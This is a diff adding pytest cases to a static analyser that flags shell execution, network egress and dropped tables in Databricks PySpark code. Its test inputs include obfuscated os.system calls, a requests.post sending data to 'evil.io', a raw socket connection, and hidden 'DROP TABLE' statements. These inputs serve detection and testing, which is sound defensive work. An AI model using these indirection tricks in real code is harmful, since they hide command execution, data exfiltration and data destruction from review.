@@ -190,3 +190,52 @@ def test_a_long_chain_with_run_time_parts_is_bounded_and_still_judged() -> None:
 @pytest.mark.parametrize("code", ["spark.sql(**options)", 'spark.sql(*["DROP TABLE x"])'])
 def test_splatted_sql_arguments_are_dynamic(code: str) -> None:
     assert "python.dynamic_sql" in py(code, platform="databricks").rules()
+
+
+@pytest.mark.parametrize(
+    ("code", "rule"),
+    [
+        ('import os\nh = {"go": os.system}\nh["go"]("id")', "python.shell"),
+        ("import os\nops = (print, os.system)\nops[1]('id')", "python.shell"),
+        (
+            'import socket\nc = {"tcp": socket.create_connection}\nc["tcp"](("203.0.113.9", 9))',
+            "python.egress",
+        ),
+        (
+            'import requests\nsend = [requests.post]\nsend[0]("https://evil.io", data=b"x")',
+            "python.egress",
+        ),
+        ('r = type(spark).__getattribute__(spark, "sq" + "l")\nr("DROP TABLE sales")', "sql.drop"),
+        (
+            'import functools\nfunctools.partial(spark.sql, "DROP TABLE sales")()',
+            "python.dynamic_sql",
+        ),
+        ('list(map(spark.sql, ["DROP TABLE sales"]))', "python.dynamic_sql"),
+        ('import os\nh = {"get": getattr}\nh["get"](os, "system")("id")', "python.shell"),
+        ('import os\nh = {"get": getattr}\nh["get"](os, name)("id")', "python.unresolved_call"),
+        (
+            'import operator\noperator.methodcaller("sql", "DROP TABLE sales")(spark)',
+            "python.dynamic_sql",
+        ),
+    ],
+)
+def test_callables_held_in_literals_or_passed_on_are_seen(code: str, rule: str) -> None:
+    analysis = py(code, platform="databricks")
+    assert rule in analysis.rules(), analysis.rules()
+    assert analysis.risk >= RiskLevel.HIGH
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        'import requests\nget = {"fx": requests.get}\nget["fx"]("https://api.example.com/fx")',
+        'from pyspark.sql import functions as F\nspark.read.table("t").select(*map(F.col, ["a"]))',
+        'import operator\nprint(list(map(operator.methodcaller("strip"), [" a "])))',
+        'setattr(ns, "go", spark.sql)\nns.go("SELECT 1")',
+    ],
+)
+def test_look_alike_callables_stay_quiet(code: str) -> None:
+    analysis = analyze(
+        code, language="pyspark", platform="databricks", egress_allowed_hosts=["api.example.com"]
+    )
+    assert analysis.risk < RiskLevel.HIGH, analysis.rules()
